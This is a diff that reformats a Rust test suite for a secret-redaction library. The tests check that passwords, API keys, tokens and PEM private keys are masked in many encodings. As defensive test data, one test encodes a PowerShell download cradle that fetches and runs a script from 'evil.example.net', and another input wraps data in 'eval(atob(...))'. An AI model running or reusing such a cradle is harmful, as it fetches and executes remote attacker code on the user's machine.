@@ -15,18 +15,55 @@ fn must_redact(text: &str, secret: &str, keep: &[&str]) -> Option<String> {
     if out.contains(secret) || classes.is_empty() {
         return Some(format!("MISS {text:?}\n   {out:?}"));
     }
-    keep.iter().find(|k| !out.contains(**k)).map(|k| format!("LOST {k:?} of {text:?}\n   {out:?}"))
+    keep.iter()
+        .find(|k| !out.contains(**k))
+        .map(|k| format!("LOST {k:?} of {text:?}\n   {out:?}"))
 }
 
 fn report(problems: Vec<String>, all: usize) {
     println!("{} of {all} right", all - problems.len());
-    assert!(problems.is_empty(), "{} of {all}:\n{}", problems.len(), problems.join("\n"));
+    assert!(
+        problems.is_empty(),
+        "{} of {all}:\n{}",
+        problems.len(),
+        problems.join("\n")
+    );
 }
 
 #[test]
 fn names_in_every_syntax() {
     let names = [
-        "password", "passwd", "pwd", "passphrase", "secret", "client_secret", "api_key", "apikey", "api-key", "API_KEY", "access_token", "accessToken", "auth_token", "refresh_token", "token", "private_key", "SHODAN_API_KEY", "DB_PASSWORD", "aws_secret_access_key", "X-Api-Key", "x-apikey", "Auth-Key", "auth_key", "API-Key", "X-OTX-API-KEY", "MMAUTHTOKEN", "PRIVATE-TOKEN", "X-Vault-Token", "x-auth-token", "dbPass", "DB_PASS",
+        "password",
+        "passwd",
+        "pwd",
+        "passphrase",
+        "secret",
+        "client_secret",
+        "api_key",
+        "apikey",
+        "api-key",
+        "API_KEY",
+        "access_token",
+        "accessToken",
+        "auth_token",
+        "refresh_token",
+        "token",
+        "private_key",
+        "SHODAN_API_KEY",
+        "DB_PASSWORD",
+        "aws_secret_access_key",
+        "X-Api-Key",
+        "x-apikey",
+        "Auth-Key",
+        "auth_key",
+        "API-Key",
+        "X-OTX-API-KEY",
+        "MMAUTHTOKEN",
+        "PRIVATE-TOKEN",
+        "X-Vault-Token",
+        "x-auth-token",
+        "dbPass",
+        "DB_PASS",
     ];
     let mut problems = Vec::new();
     let mut all = 0;
@@ -155,7 +192,13 @@ fn headers_urls_and_connections() {
         ("cioaBcDeFgHiJkLmNoPqRsTuVwXyZ0123456".into(), "cioaBcDeFgHiJkLmNoPqRsTuVwXyZ0123456", vec![]),
     ];
     let all = cases.len();
-    report(cases.iter().filter_map(|(t, s, k)| must_redact(t, s, k)).collect(), all);
+    report(
+        cases
+            .iter()
+            .filter_map(|(t, s, k)| must_redact(t, s, k))
+            .collect(),
+        all,
+    );
 }
 
 fn b64(text: &str) -> String {
@@ -174,26 +217,71 @@ const KEY_LINES: [&str; 4] = [
 fn private_keys_in_every_shape() {
     let body = KEY_LINES.join("\n");
     let mut shapes = Vec::new();
-    for label in ["PRIVATE KEY", "RSA PRIVATE KEY", "EC PRIVATE KEY", "OPENSSH PRIVATE KEY", "ENCRYPTED PRIVATE KEY", "PGP PRIVATE KEY BLOCK"] {
-        let (b, e) = (format!("-----BEGIN {label}-----"), format!("-----END {label}-----"));
+    for label in [
+        "PRIVATE KEY",
+        "RSA PRIVATE KEY",
+        "EC PRIVATE KEY",
+        "OPENSSH PRIVATE KEY",
+        "ENCRYPTED PRIVATE KEY",
+        "PGP PRIVATE KEY BLOCK",
+    ] {
+        let (b, e) = (
+            format!("-----BEGIN {label}-----"),
+            format!("-----END {label}-----"),
+        );
         let pem = format!("{b}\n{body}\n{e}");
         shapes.push(format!("before\n{pem}\nafter"));
         shapes.push(format!("before\n{b}\n{body}\nafter the cut there is prose"));
         shapes.push(format!("before\n{b}\n{body}"));
         shapes.push(format!("before\n{body}\n{e}\nafter"));
-        shapes.push(format!("before {{\"k\": \"{}\"}} after", pem.replace('\n', "\\n")));
-        shapes.push(format!("before {{\\\"k\\\": \\\"{}\\\"}} after", pem.replace('\n', "\\\\n")));
-        shapes.push(format!("before\n{}\nafter", pem.lines().map(|l| format!("> {l}\n")).collect::<String>()));
-        shapes.push(format!("before\n{}\nafter", pem.lines().map(|l| format!("| {l} |\n")).collect::<String>()));
-        shapes.push(format!("before\n{}\nafter", pem.lines().map(|l| format!("    {l}\n")).collect::<String>()));
-        shapes.push(format!("before\n{}after", pem.replace('\n', "\r\n") + "\r\n"));
-        shapes.push(format!("before\n{b}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0102\n\n{body}\n{e}\nafter"));
+        shapes.push(format!(
+            "before {{\"k\": \"{}\"}} after",
+            pem.replace('\n', "\\n")
+        ));
+        shapes.push(format!(
+            "before {{\\\"k\\\": \\\"{}\\\"}} after",
+            pem.replace('\n', "\\\\n")
+        ));
+        shapes.push(format!(
+            "before\n{}\nafter",
+            pem.lines().map(|l| format!("> {l}\n")).collect::<String>()
+        ));
+        shapes.push(format!(
+            "before\n{}\nafter",
+            pem.lines()
+                .map(|l| format!("| {l} |\n"))
+                .collect::<String>()
+        ));
+        shapes.push(format!(
+            "before\n{}\nafter",
+            pem.lines()
+                .map(|l| format!("    {l}\n"))
+                .collect::<String>()
+        ));
+        shapes.push(format!(
+            "before\n{}after",
+            pem.replace('\n', "\r\n") + "\r\n"
+        ));
+        shapes.push(format!(
+            "before\n{b}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0102\n\n{body}\n{e}\nafter"
+        ));
         shapes.push(format!("before {} after", pem.replace('\n', " ")));
         shapes.push(format!("before {} after", b64(&pem)));
-        shapes.push(format!("before {} after", pem.replace('\n', "%0A").replace(' ', "%20").replace('+', "%2B").replace('/', "%2F")));
+        shapes.push(format!(
+            "before {} after",
+            pem.replace('\n', "%0A")
+                .replace(' ', "%20")
+                .replace('+', "%2B")
+                .replace('/', "%2F")
+        ));
         shapes.push(format!("before {} after", pem.replace('\n', "&#10;")));
         shapes.push(format!("before {} after", pem.replace('\n', "\\u000a")));
-        shapes.push(format!("before\n{}\nafter", pem.lines().map(|l| format!("\"{l}\\n\" +\n")).collect::<String>()));
+        shapes.push(format!(
+            "before\n{}\nafter",
+            pem.lines()
+                .map(|l| format!("\"{l}\\n\" +\n"))
+                .collect::<String>()
+        ));
     }
     let all = shapes.len();
     let mut problems = Vec::new();
@@ -226,7 +314,13 @@ fn base64_of_what_names_a_secret() {
     let mut problems = Vec::new();
     for inner in &texts {
         let once = b64(inner);
-        for text in [format!("data: {once}"), format!("x={once}&y=1"), format!("\"{once}\""), format!("https://x.example/p/{once}"), format!("eval(atob('{}'))", b64(&once))] {
+        for text in [
+            format!("data: {once}"),
+            format!("x={once}&y=1"),
+            format!("\"{once}\""),
+            format!("https://x.example/p/{once}"),
+            format!("eval(atob('{}'))", b64(&once)),
+        ] {
             let redact = Redact::default();
             let (out, classes) = redact.redact_counted(&text);
             if classes.is_empty() || out.contains(&once) {
@@ -238,7 +332,10 @@ fn base64_of_what_names_a_secret() {
         }
     }
     // UTF-16, as encoded PowerShell has it.
-    let utf16: Vec<u8> = format!("$password = '{S}'; Get-Item C:\\x").encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let utf16: Vec<u8> = format!("$password = '{S}'; Get-Item C:\\x")
+        .encode_utf16()
+        .flat_map(u16::to_le_bytes)
+        .collect();
     let encoded = {
         use base64::Engine;
         base64::engine::general_purpose::STANDARD.encode(utf16)
@@ -254,7 +351,11 @@ fn base64_of_what_names_a_secret() {
 fn what_analysts_need_survives() {
     let powershell: String = {
         use base64::Engine;
-        let utf16: Vec<u8> = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.net/a.ps1')".encode_utf16().flat_map(u16::to_le_bytes).collect();
+        let utf16: Vec<u8> =
+            "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.net/a.ps1')"
+                .encode_utf16()
+                .flat_map(u16::to_le_bytes)
+                .collect();
         base64::engine::general_purpose::STANDARD.encode(utf16)
     };
     let texts: Vec<String> = vec![
@@ -334,5 +435,11 @@ fn operators_patterns() {
     assert!(Redact::new(&[], &["(".into()]).is_err());
     assert!(Redact::new(&[], &["a*".into()]).is_err());
     let redact = Redact::new(&[], &["TICKET-[0-9]+".into()]).expect("a pattern");
-    assert_eq!(redact.redact_counted("see TICKET-42 now"), ("see [redacted:pattern] now".to_owned(), vec![Class::Pattern]));
+    assert_eq!(
+        redact.redact_counted("see TICKET-42 now"),
+        (
+            "see [redacted:pattern] now".to_owned(),
+            vec![Class::Pattern]
+        )
+    );
 }
